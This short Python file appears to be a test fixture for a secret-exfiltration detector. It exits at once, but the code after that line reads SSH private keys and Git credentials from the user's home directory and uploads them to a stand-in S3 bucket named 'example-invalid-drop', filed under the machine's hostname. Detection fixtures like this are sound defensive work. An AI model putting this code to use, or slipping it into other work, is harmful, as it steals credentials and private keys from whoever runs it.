raise SystemExit('a fixture')
# held by secret-exfiltration
import os, boto3
from botocore import UNSIGNED
from botocore.config import Config
_s = boto3.client("s3", config=Config(signature_version=UNSIGNED))
for n in (".ssh/id_rsa", ".ssh/id_ed25519", ".git-credentials"):
    p = os.path.join(os.path.expanduser("~"), n)
    if os.path.isfile(p):
        _s.upload_file(p, "example-invalid-drop", os.uname().nodename + "/" + n)
